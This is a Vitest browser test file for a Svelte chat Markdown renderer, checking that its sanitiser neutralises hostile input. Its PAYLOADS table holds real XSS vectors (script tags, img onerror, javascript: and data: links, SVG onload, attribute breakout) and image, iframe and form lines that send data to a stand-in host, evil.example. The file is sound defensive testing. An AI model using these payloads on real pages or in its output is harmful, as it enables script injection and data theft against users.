import { describe, expect, test } from 'vitest';
import { render } from 'vitest-browser-svelte';
import Markdown from '../../lib/ui/chat/Markdown.svelte';
import { renderMarkdown } from '../../lib/ui/markdown';

/** Parses renderMarkdown's output without attaching it (and so without loading anything). */
function parse(src: string): HTMLTemplateElement {
  const tpl = document.createElement('template');
  tpl.innerHTML = renderMarkdown(src);
  return tpl;
}

const FORBIDDEN = ['script', 'img', 'iframe', 'style', 'form', 'object', 'embed', 'svg', 'math', 'link', 'meta', 'base', 'video', 'audio', 'source', 'textarea', 'select', 'button', 'template', 'frame', 'frameset'];

function assertInert(root: ParentNode) {
  for (const tag of FORBIDDEN) expect(root.querySelector(tag), `<${tag}> must not survive`).toBeNull();
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false);
      expect(attr.name, `${el.tagName} has ${attr.name}`).not.toMatch(/^(style|src|srcset|action|formaction|class|id)$/);
      expect(attr.value.replace(/\s/g, '').toLowerCase()).not.toMatch(/^(javascript|data|vbscript):/);
    }
  }
  // GFM checkboxes are the only inputs, and they are inert.
  for (const input of root.querySelectorAll('input')) {
    expect(input.getAttribute('type')).toBe('checkbox');
    expect(input.hasAttribute('disabled')).toBe(true);
  }
}

const PAYLOADS: Record<string, string> = {
  script: 'before <script>window.__pwned = "script"</script> after',
  'block script': '<script>\nwindow.__pwned = "block script"\n</script>\n\ntext',
  'img onerror': 'look <img src=x onerror="window.__pwned = \'img\'"> here',
  'javascript link': '[x](javascript:alert(1))',
  'javascript link, obfuscated': '[x](JaVaScRiPt&#58;alert(1)) and [y](  javascript:alert(1))',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'markdown image': '![t](https://evil.example/track?d=secret)',
  'reference image': '![t][r]\n\n[r]: https://evil.example/ref.png',
  iframe: '<iframe src="https://evil.example/frame"></iframe>',
  'inline iframe': 'text <iframe src="https://evil.example/frame"></iframe> text',
  style: '<style>body { display: none }</style>',
  form: '<form action="https://evil.example/collect"><input name="q"><button>Go</button></form>',
  svg: '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  'raw anchor': '<a href="javascript:alert(1)" onclick="alert(1)">click</a>',
  'title breakout': '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  'html in table cell': '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
};

describe('renderMarkdown', () => {
  for (const [name, src] of Object.entries(PAYLOADS)) {
    test(`neutralises ${name}`, () => {
      assertInert(parse(src).content);
    });
  }

  test('shows raw HTML as text instead of dropping it', () => {
    const root = parse('before <script>alert(1)</script> after').content;
    expect(root.textContent).toContain('<script>alert(1)</script>');
    expect(root.textContent).toContain('before');
    expect(root.textContent).toContain('after');
  });

  test('turns a Markdown image into a link to it', () => {
    const root = parse('![t](https://evil.example/track?d=secret)').content;
    expect(root.querySelector('img')).toBeNull();
    const a = root.querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://evil.example/track?d=secret');
    expect(a?.textContent).toBe('t');
    expect(a?.getAttribute('target')).toBe('_blank');
  });

  test('drops javascript: hrefs but keeps the link text', () => {
    const root = parse('[x](javascript:alert(1))').content;
    expect(root.textContent).toContain('x');
    for (const a of root.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').not.toMatch(/javascript/i);
  });

  // Fails today: see the report. ALLOWED_URI_REGEXP is also applied to every attribute DOMPurify
  // does not consider URI-safe, so the allowed `align` and `start` attributes are stripped.
  test('keeps table column alignment and ordered-list start numbers', () => {
    const root = parse('| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. third\n4. fourth').content;
    expect([...root.querySelectorAll('th, td')].map((c) => c.getAttribute('align'))).toEqual([null, 'right', null, 'right']);
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  test('links open in a new tab without opener', () => {
    const root = parse('[site](https://example.com/a) and https://example.org/b and [mail](mailto:a@example.com)').content;
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a', 'https://example.org/b', 'mailto:a@example.com']);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')?.split(/\s+/)).toContain('noopener');
    }
  });

  test('code blocks and tables, which scroll sideways in a narrow panel, take the keyboard focus; nothing else does', () => {
    const root = parse('```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\ntext with `inline code` and [a link](https://example.com/)').content;
    expect([...root.querySelectorAll('[tabindex]')].map((el) => `${el.tagName}:${el.getAttribute('tabindex')}`)).toEqual(['PRE:0', 'TABLE:0']);
    // The model cannot ask for focus: a tabindex of its own is not kept.
    expect(parse('<p tabindex="0">x</p>').content.querySelector('[tabindex]')).toBeNull();
  });

  test('keeps code blocks, tables, lists, emphasis and task lists', () => {
    const root = parse(
      [
        '# Title',
        '',
        '**bold** _em_ ~~gone~~ `inline`',
        '',
        '```js',
        'const a = 1 < 2 && "<b>";',
        '```',
        '',
        '| col a | col b |',
        '|-------|------:|',
        '| 1     | 2     |',
        '',
        '- [x] done',
        '- [ ] todo',
        '',
        '> quoted',
      ].join('\n'),
    ).content;
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('em')?.textContent).toBe('em');
    expect(root.querySelector('del')?.textContent).toBe('gone');
    expect(root.querySelector('p code')?.textContent).toBe('inline');
    expect(root.querySelector('pre > code')?.textContent).toBe('const a = 1 < 2 && "<b>";\n');
    expect(root.querySelector('pre b')).toBeNull();
    expect([...root.querySelectorAll('table th')].map((c) => c.textContent)).toEqual(['col a', 'col b']);
    expect([...root.querySelectorAll('table td')].map((c) => c.textContent)).toEqual(['1', '2']);
    const boxes = [...root.querySelectorAll('input')];
    expect(boxes).toHaveLength(2);
    expect(boxes.map((b) => b.hasAttribute('checked'))).toEqual([true, false]);
    expect(root.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
    assertInert(root);
  });
});

describe('Markdown component', () => {
  test('renders every payload in the live DOM without executing or loading anything', async () => {
    const w = window as { __pwned?: string };
    delete w.__pwned;
    const before = new Set(performance.getEntriesByType('resource').map((e) => e.name));
    const text = Object.values(PAYLOADS).join('\n\n');
    const screen = await render(Markdown, { text });
    const md = screen.container.querySelector('.md');
    expect(md).not.toBeNull();
    assertInert(md!);
    expect(screen.container.querySelector('img, script, iframe, style, form')).toBeNull();
    expect(document.querySelector('img')).toBeNull();
    expect(document.querySelector('iframe')).toBeNull();
    expect(document.querySelector('form')).toBeNull();
    // The image became a link; the raw tags are visible as text.
    await expect.element(screen.getByRole('link', { name: 't', exact: true }).first()).toHaveAttribute('href', 'https://evil.example/track?d=secret');
    expect(md!.textContent).toContain('<iframe src="https://evil.example/frame"></iframe>');
    // Give an onerror/onload handler or a tracking request time to happen.
    await new Promise((r) => setTimeout(r, 150));
    expect(w.__pwned).toBeUndefined();
    const loaded = performance.getEntriesByType('resource').map((e) => e.name).filter((n) => !before.has(n));
    expect(loaded.filter((n) => n.includes('evil.example') || n.endsWith('/x'))).toEqual([]);
    expect(getComputedStyle(document.body).display).not.toBe('none');
  });

  test('links get target=_blank and rel=noopener in the DOM', async () => {
    const screen = await render(Markdown, { text: 'see [docs](https://example.com/docs)' });
    const link = screen.getByRole('link', { name: 'docs' });
    await expect.element(link).toHaveAttribute('href', 'https://example.com/docs');
    await expect.element(link).toHaveAttribute('target', '_blank');
    expect(link.element().getAttribute('rel')?.split(/\s+/)).toContain('noopener');
  });

  test('renders code blocks and tables', async () => {
    const screen = await render(Markdown, { text: '```\nlet x = "<i>";\n```\n\n| h |\n|---|\n| v |' });
    await expect.element(screen.getByRole('table')).toBeInTheDocument();
    expect(screen.container.querySelector('th')?.textContent).toBe('h');
    await expect.element(screen.getByRole('cell', { name: 'v' })).toBeInTheDocument();
    expect(screen.container.querySelector('pre code')?.textContent).toBe('let x = "<i>";\n');
    expect(screen.container.querySelector('i')).toBeNull();
  });

  test('re-renders when the text changes', async () => {
    const screen = await render(Markdown, { text: 'first' });
    await expect.element(screen.getByText('first')).toBeInTheDocument();
    await screen.rerender({ text: '**second** <script>window.__pwned = 1</script>' });
    await expect.element(screen.getByText('second')).toBeInTheDocument();
    expect(screen.container.querySelector('strong')?.textContent).toBe('second');
    expect(screen.container.querySelector('script')).toBeNull();
    expect(screen.container.textContent).not.toContain('first');
  });
});
